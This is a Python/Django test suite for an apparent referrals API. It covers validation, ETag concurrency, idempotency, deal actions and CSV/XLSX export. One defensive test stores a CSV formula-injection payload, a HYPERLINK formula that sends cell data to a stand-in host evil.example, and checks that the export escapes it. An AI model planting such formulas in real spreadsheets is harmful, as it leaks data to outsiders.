"""/api/v1/referrals as each side sees it: the D9 shape, bad input, ETag/If-Match, actions."""

import datetime
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from openprm.core.testing import assert_queries_do_not_grow
from openprm.crm.models import Opportunity
from openprm.crm.tests.factories import CustomerFactory
from openprm.deals.models import Registration, RegistrationKind
from openprm.referrals.models import Referral
from openprm.referrals.tests.factories import create_referral, member, send_referral, solution, vet
from openprm.referrals.tests.states import PDF, in_substatus

pytestmark = pytest.mark.django_db


def post(client, path, body, **headers):
    return client.post(
        f"/api/v1{path}", json.dumps(body), content_type="application/json", headers=headers
    )


def patch(client, path, body, **headers):
    return client.patch(
        f"/api/v1{path}", json.dumps(body), content_type="application/json", headers=headers
    )


def new_deal(customer, location, **overrides):
    body = {
        "kind": "co_sell",
        "customer_id": customer.pk,
        "contact": {"name": "Yui Sato", "phone": "+81 3 0000", "email": "yui@sakura.example"},
        "consent": True,
        "name": "Sakura CRM",
        "location_id": location.pk,
        "value": "25000.00",
        "currency": "USD",
        "estimated_close_date": "2027-02-15",
        "notes": "Wants a demo.",
        "campaign_id": "SPRING-26",
        "team": [member(1)],
        "agreed": True,
    }
    body.update(overrides)
    return body


def test_a_partner_creates_a_deal_with_the_d9_shape(client, alice, seattle):
    client.force_login(alice)
    customer = CustomerFactory.create(duns="123456789")
    response = post(client, "/referrals", new_deal(customer, seattle))
    assert response.status_code == 201, response.content
    body = response.json()
    assert (body["status"], body["substatus"], body["direction"]) == (
        "active",
        "accepted",
        "outbound",
    )
    assert body["customer"]["duns"] == "123456789"
    assert body["details"] == {
        "value": "25000.00",
        "currency": "USD",
        "closing_date": "2027-02-15",
        "notes": "Wants a demo.",
        "purchase_timeframe": "",
        "crm_id": "",
        "vendor_crm_id": "",
        "campaign_id": "SPRING-26",
    }
    assert body["consent"]["given"] is True
    assert {m["email"] for m in body["team"]} == {"member1@northwind.example", alice.email}
    assert body["allowed_actions"] == ["update", "team", "stages", "close"]
    assert response["ETag"] == f'"{body["id"]}.{body["version"]}"'


def test_a_retried_create_with_the_same_idempotency_key_creates_one_deal(client, alice, seattle):
    client.force_login(alice)
    body = new_deal(CustomerFactory.create(), seattle)
    first = post(client, "/referrals", body, **{"Idempotency-Key": "wizard-1"})
    again = post(client, "/referrals", body, **{"Idempotency-Key": "wizard-1"})
    assert first.status_code == again.status_code == 201
    assert first.json()["id"] == again.json()["id"]
    assert Referral.objects.count() == 1


@pytest.mark.parametrize(
    ("overrides", "field"),
    [
        ({"name": ""}, "name"),
        ({"notes": ""}, "notes"),
        ({"value": "0"}, "value"),
        ({"value": "-5"}, "value"),
        ({"currency": "XXX"}, "currency"),
        ({"estimated_close_date": "2027-13-45"}, "estimated_close_date"),
        ({"team": []}, "team"),
        ({"team": [member(1, phone="")]}, "team.0.phone"),
        ({"agreed": False}, "agreed"),
        ({"consent": False}, "consent"),
        ({"kind": "solution_assessment", "solution_type_ids": []}, "solution_type_ids"),
    ],
)
def test_bad_input_names_the_field_and_saves_nothing(client, alice, seattle, overrides, field):
    vet(alice.organization)
    client.force_login(alice)
    response = post(client, "/referrals", new_deal(CustomerFactory.create(), seattle, **overrides))
    assert response.status_code == 422, response.content
    assert field in [e["field"] for e in response.json()["errors"]]
    assert not Opportunity.objects.exists()


def test_two_solutions_are_refused(client, alice, seattle):
    vet(alice.organization)
    client.force_login(alice)
    both = [solution(eligible=True).pk, solution(eligible=False).pk]
    body = new_deal(
        CustomerFactory.create(),
        seattle,
        kind="solution_assessment",
        solution_type_ids=both,
        assessment_location_id=seattle.pk,
    )
    response = post(client, "/referrals", body)
    assert response.status_code == 422
    assert [e["field"] for e in response.json()["errors"]] == ["solution_type_ids"]


def test_a_location_outside_the_partners_locations_is_refused(client, alice, tailspin):
    client.force_login(alice)
    bangkok = tailspin.locations.get()
    response = post(client, "/referrals", new_deal(CustomerFactory.create(), bangkok))
    assert response.status_code == 422
    assert [e["field"] for e in response.json()["errors"]] == ["location_id"]


def test_a_scoped_user_cannot_create_a_deal_outside_the_location_scope(client, bob, tokyo):
    """Bob (scoped to the US) would never see a deal at Tokyo: it is refused, not written."""
    client.force_login(bob)
    response = post(client, "/referrals", new_deal(CustomerFactory.create(), tokyo))
    assert response.status_code == 422
    assert [(e["field"], e["code"]) for e in response.json()["errors"]] == [
        ("location_id", "out_of_scope")
    ]
    assert not Referral.objects.exists()


def test_an_unvetted_partner_cannot_create_a_solution_assessment(client, alice, seattle):
    client.force_login(alice)
    body = new_deal(
        CustomerFactory.create(),
        seattle,
        kind="solution_assessment",
        solution_type_ids=[solution().pk],
        assessment_location_id=seattle.pk,
    )
    response = post(client, "/referrals", body)
    assert response.status_code == 422
    assert "kind" in [e["field"] for e in response.json()["errors"]]


def test_a_new_directory_customer_is_added_with_its_duns(client, alice, seattle):
    client.force_login(alice)
    body = new_deal(CustomerFactory.create(), seattle)
    body.pop("customer_id")
    body["new_customer"] = {
        "name": "Kyoto Tea",
        "country": "JP",
        "currency": "JPY",
        "duns": "987654321",
    }
    response = post(client, "/referrals", body)
    assert response.status_code == 201, response.content
    assert response.json()["customer"]["duns"] == "987654321"


def test_a_sales_rep_sends_a_referral_and_sees_it_pending(client, sam, northwind, alice):
    client.force_login(sam)
    body = {
        "partner_id": northwind.pk,
        "customer_id": CustomerFactory.create().pk,
        "name": "Contoso lead",
        "value": "1000",
        "currency": "EUR",
        "notes": "Hot lead",
    }
    response = post(client, "/referrals/send", body)
    assert response.status_code == 201, response.content
    assert (response.json()["status"], response.json()["substatus"]) == ("new", "pending")
    assert response.json()["allowed_actions"] == []
    client.force_login(alice)
    seen = client.get(f"/api/v1/referrals/{response.json()['id']}").json()
    assert seen["substatus"] == "received"
    assert seen["expires_at"] is not None
    assert seen["allowed_actions"] == ["accept", "decline"]


def test_another_partners_referral_is_404(client, alice, charlie):
    referral = create_referral(actor=alice)
    client.force_login(charlie)
    assert client.get(f"/api/v1/referrals/{referral.pk}").status_code == 404
    assert post(client, f"/referrals/{referral.pk}/close", {"outcome": "won"}).status_code == 404
    assert client.get("/api/v1/referrals").json()["count"] == 0


def test_an_update_with_a_stale_etag_is_412_and_changes_nothing(client, alice):
    referral = create_referral(actor=alice)
    client.force_login(alice)
    path = f"/referrals/{referral.pk}"
    fresh = patch(client, path, {"value": "30000"}, **{"If-Match": referral.etag})
    assert fresh.status_code == 200, fresh.content
    assert fresh.json()["details"]["value"] == "30000.00"
    assert fresh["ETag"] != referral.etag
    stale = patch(client, path, {"name": "Renamed"}, **{"If-Match": referral.etag})
    assert stale.status_code == 412
    assert Referral.objects.get(pk=referral.pk).opportunity.name == "Sakura assessment"


@pytest.mark.parametrize(
    "body",
    [{"location_id": 1}, {"solution_type_ids": [1]}, {"assessment_location_id": 1}],
)
def test_location_and_solution_cannot_change(client, alice, body):
    referral = create_referral(actor=alice)
    client.force_login(alice)
    response = patch(client, f"/referrals/{referral.pk}", body)
    assert response.status_code == 422
    error = response.json()["errors"][0]
    assert (error["field"], error["code"]) == (next(iter(body)), "immutable")


def test_an_action_the_state_does_not_allow_is_409_listing_the_allowed_ones(client, alice):
    referral = create_referral(actor=alice)
    client.force_login(alice)
    response = post(client, f"/referrals/{referral.pk}/accept", {"notes": "Again"})
    assert response.status_code == 409
    assert response.json()["errors"][0]["field"] == "action"
    assert "update, team, stages, close" in response.json()["message"]


def test_accept_then_close_won_through_the_api(client, sam, northwind, alice):
    referral = send_referral(actor=sam, partner=northwind)
    client.force_login(alice)
    accepted = post(
        client,
        f"/referrals/{referral.pk}/accept",
        {"notes": "Met them", "value": "5000", "purchase_timeframe": "3m"},
    )
    assert accepted.status_code == 200, accepted.content
    assert accepted.json()["details"]["value"] == "5000.00"
    closed = post(client, f"/referrals/{referral.pk}/close", {"outcome": "won", "mrr": "400"})
    assert closed.status_code == 200, closed.content
    assert closed.json()["substatus"] == "won"
    assert Opportunity.objects.get(referral=referral).state == "won"


def test_decline_needs_a_reason_from_the_list(client, sam, northwind, alice):
    referral = send_referral(actor=sam, partner=northwind)
    client.force_login(alice)
    bad = post(client, f"/referrals/{referral.pk}/decline", {"reason": "bored"})
    assert bad.status_code == 422
    assert bad.json()["errors"][0]["field"] == "reason"
    good = post(client, f"/referrals/{referral.pk}/decline", {"reason": "no_capacity"})
    assert good.json()["substatus"] == "declined"


def test_won_with_missing_stages_lists_them(client, alice):
    referral = in_substatus("accepted", partner_admin=alice, sender=alice)
    client.force_login(alice)
    response = post(client, f"/referrals/{referral.pk}/close", {"outcome": "won", "mrr": "10"})
    assert response.status_code == 422
    assert "Secure customer LOE" in response.json()["errors"][0]["message"]


def test_a_partner_crm_stage_name_marks_the_mapped_stage(client, alice):
    referral = create_referral(actor=alice)
    client.force_login(alice)
    saved = post(client, "/referrals/stage-mappings", {"name": "Proposal", "percentage": 65})
    assert saved.status_code == 201, saved.content
    assert saved.json()["maps_to"]["code"] == "prepare_report"
    response = patch(client, f"/referrals/{referral.pk}", {"crm_stage": "proposal"})
    assert response.status_code == 200, response.content
    assert response.json()["stage"]["code"] == "prepare_report"
    unknown = patch(client, f"/referrals/{referral.pk}", {"crm_stage": "Signed"})
    assert unknown.json()["errors"][0]["field"] == "crm_stage"


def test_a_percentage_is_capped_at_present_to_customer(client, alice):
    referral = create_referral(actor=alice)
    client.force_login(alice)
    response = post(client, f"/referrals/{referral.pk}/stages", {"percentage": 95})
    assert response.json()["stage"]["code"] == "present"


def test_a_won_eligible_deal_is_registered_into_the_one_queue(client, alice, rita):
    referral = in_substatus("won", partner_admin=alice, sender=alice)
    client.force_login(alice)
    response = client.post(
        f"/api/v1/referrals/{referral.pk}/registration",
        {
            "won_value": "48000",
            "closed_on": datetime.date.today().isoformat(),
            "account_ids": "sub-1, sub-2",
            "proof": SimpleUploadedFile("po.pdf", PDF, content_type="application/pdf"),
        },
    )
    assert response.status_code == 201, response.content
    assert response.json()["registration"]["fast_win"] is True
    assert response.json()["allowed_actions"] == []
    registration = Registration.objects.get()
    assert registration.kind == RegistrationKind.WON_REFERRAL
    client.force_login(rita)
    queue = client.get("/api/v1/registrations?queue=true").json()
    assert [r["id"] for r in queue["items"]] == [registration.pk]
    approved = client.post(f"/api/v1/registrations/{registration.pk}/approve")
    assert approved.status_code == 200, approved.content
    assert client.get(f"/api/v1/referrals/{referral.pk}").json()["registration"]["state"] == (
        "approved"
    )


def test_the_campaign_report_counts_created_won_and_win_rate(client, alice):
    won = create_referral(actor=alice, campaign_id="SPRING-26", amount_minor=1_000_000)
    create_referral(actor=alice, campaign_id="SPRING-26")
    lost = create_referral(actor=alice, campaign_id="SPRING-26")
    create_referral(actor=alice, campaign_id="")
    from openprm.referrals.lifecycle import services

    services.referral_close(referral=won, actor=alice, outcome="won", mrr_minor=1)
    services.referral_close(referral=lost, actor=alice, outcome="lost", lost_reason="price")
    client.force_login(alice)
    assert client.get("/api/v1/referrals/campaigns").json() == [
        {
            "campaign_id": "SPRING-26",
            "created": 3,
            "won": 1,
            "lost": 1,
            "won_value": {"USD": "10000.00"},
            "win_rate": "0.5000",
        }
    ]


def test_the_export_has_the_filtered_rows_in_csv_and_xlsx(client, alice):
    create_referral(actor=alice, name="Tagged deal", campaign_id="FALL")
    create_referral(actor=alice, name="Other deal")
    client.force_login(alice)
    csv = client.get("/api/v1/referrals/export?campaign_id=FALL")
    assert csv["Content-Type"].startswith("text/csv")
    text = b"".join(csv.streaming_content).decode()
    assert "Tagged deal" in text
    assert "Other deal" not in text
    xlsx = client.get("/api/v1/referrals/export?format=xlsx&campaign_id=FALL")
    sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    assert [row[0] for row in sheet.iter_rows(values_only=True)] == ["Deal name", "Tagged deal"]


def test_the_export_writes_a_formula_in_a_deal_name_as_text(client, alice):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
    create_referral(actor=alice, name=formula)
    client.force_login(alice)
    csv = client.get("/api/v1/referrals/export")
    text = b"".join(csv.streaming_content).decode()
    assert text.splitlines()[1].startswith('"\'=HYPERLINK(""http://evil.example')
    xlsx = client.get("/api/v1/referrals/export?format=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    cell = sheet["A2"]
    assert cell.data_type == "s"
    assert cell.value == "'" + formula


def test_the_list_filters_by_tab_and_orders(client, sam, northwind, alice):
    send_referral(actor=sam, partner=northwind, name="Inbound one")
    create_referral(actor=alice, name="B outbound")
    create_referral(actor=alice, name="A outbound")
    client.force_login(alice)
    inbound = client.get("/api/v1/referrals?tab=inbound").json()["items"]
    assert [r["name"] for r in inbound] == ["Inbound one"]
    outbound = client.get("/api/v1/referrals?tab=outbound&ordering=name").json()["items"]
    assert [r["name"] for r in outbound] == ["A outbound", "B outbound"]


def test_the_list_does_not_query_per_row(client, alice, sam, northwind):
    client.force_login(alice)

    def add(rows: int) -> None:
        for _ in range(rows):
            create_referral(actor=alice)
            send_referral(actor=sam, partner=northwind)

    _few, many = assert_queries_do_not_grow(lambda: client.get("/api/v1/referrals"), add)
    assert many.json()["count"] == 18


def test_the_detail_answers_in_few_queries(client, alice, django_assert_max_num_queries):
    referral = create_referral(actor=alice)
    client.force_login(alice)
    with django_assert_max_num_queries(12):
        assert client.get(f"/api/v1/referrals/{referral.pk}").status_code == 200


def test_a_null_in_a_patch_is_a_422_naming_the_field(client, alice):
    referral = create_referral(actor=alice)
    client.force_login(alice)
    response = patch(client, f"/referrals/{referral.pk}", {"name": None})
    assert response.status_code == 422
    assert [e["field"] for e in response.json()["errors"]] == ["name"]


def test_a_string_for_a_boolean_is_a_422_naming_the_field(client, alice, seattle):
    client.force_login(alice)
    response = post(client, "/referrals", new_deal(CustomerFactory.create(), seattle, agreed="yes"))
    assert response.status_code == 422
    assert [e["field"] for e in response.json()["errors"]] == ["agreed"]


def test_an_action_with_a_stale_etag_is_412_and_moves_nothing(client, sam, northwind, alice):
    referral = send_referral(actor=sam, partner=northwind)
    client.force_login(alice)
    stale = f'"{referral.pk}.{referral.version + 1}"'
    response = post(
        client, f"/referrals/{referral.pk}/accept", {"notes": "Mine"}, **{"If-Match": stale}
    )
    assert response.status_code == 412
    assert Referral.objects.get(pk=referral.pk).substatus == "received"
    fresh = post(
        client, f"/referrals/{referral.pk}/accept", {"notes": "Mine"}, **{"If-Match": referral.etag}
    )
    assert fresh.status_code == 200


def test_a_retried_send_with_the_same_idempotency_key_sends_once(client, sam, northwind):
    client.force_login(sam)
    body = {
        "partner_id": northwind.pk,
        "customer_id": CustomerFactory.create().pk,
        "name": "Lead",
        "value": "1000",
        "currency": "USD",
        "notes": "Hot",
    }
    first = post(client, "/referrals/send", body, **{"Idempotency-Key": "send-1"})
    again = post(client, "/referrals/send", body, **{"Idempotency-Key": "send-1"})
    assert first.json()["id"] == again.json()["id"]
    assert Referral.objects.count() == 1


def test_closing_won_without_mrr_names_the_mrr(client, alice):
    referral = create_referral(actor=alice)
    client.force_login(alice)
    response = post(client, f"/referrals/{referral.pk}/close", {"outcome": "won"})
    assert response.status_code == 422
    assert [e["field"] for e in response.json()["errors"]] == ["mrr"]
    assert Referral.objects.get(pk=referral.pk).substatus == "accepted"


@pytest.mark.parametrize(
    ("overrides", "field", "message"),
    [
        ({"value": "25000.001"}, "value", "USD amounts have at most 2 decimal places."),
        ({"currency": "JPY", "value": "5.5"}, "value", "JPY amounts have no decimal places."),
        (
            {"estimated_close_date": "1899-12-31"},
            "estimated_close_date",
            "Enter a date in 1900 or later.",
        ),
    ],
)
def test_a_deal_that_cannot_be_stored_as_given_is_a_422_naming_the_field(
    client, alice, seattle, overrides, field, message
):
    client.force_login(alice)
    response = post(client, "/referrals", new_deal(CustomerFactory.create(), seattle, **overrides))
    assert response.status_code == 422, response.content
    assert [(e["field"], e["message"]) for e in response.json()["errors"]] == [(field, message)]
    assert not Opportunity.objects.exists()


def test_an_update_and_a_close_with_more_decimals_than_the_currency_has_are_refused(client, alice):
    referral = create_referral(actor=alice)
    client.force_login(alice)
    edited = patch(client, f"/referrals/{referral.pk}", {"value": "10.999"})
    assert edited.status_code == 422
    assert edited.json()["errors"][0]["field"] == "value"
    closed = post(client, f"/referrals/{referral.pk}/close", {"outcome": "won", "mrr": "0.001"})
    assert closed.status_code == 422
    assert closed.json()["errors"][0]["field"] == "mrr"
    assert Referral.objects.get(pk=referral.pk).version == referral.version


@pytest.mark.parametrize(
    ("overrides", "field", "message"),
    [
        ({"won_value": "48000.001"}, "won_value", "USD amounts have at most 2 decimal places."),
        ({"closed_on": "1899-12-31"}, "closed_on", "Enter a date in 1900 or later."),
    ],
)
def test_a_registration_that_cannot_be_stored_as_given_is_a_422_naming_the_field(
    client, alice, overrides, field, message
):
    referral = in_substatus("won", partner_admin=alice, sender=alice)
    client.force_login(alice)
    body = {
        "won_value": "48000",
        "closed_on": datetime.date.today().isoformat(),
        "account_ids": "sub-1",
        "proof": SimpleUploadedFile("po.pdf", PDF, content_type="application/pdf"),
        **overrides,
    }
    response = client.post(f"/api/v1/referrals/{referral.pk}/registration", body)
    assert response.status_code == 422, response.content
    assert [(e["field"], e["message"]) for e in response.json()["errors"]] == [(field, message)]
    assert not Registration.objects.exists()
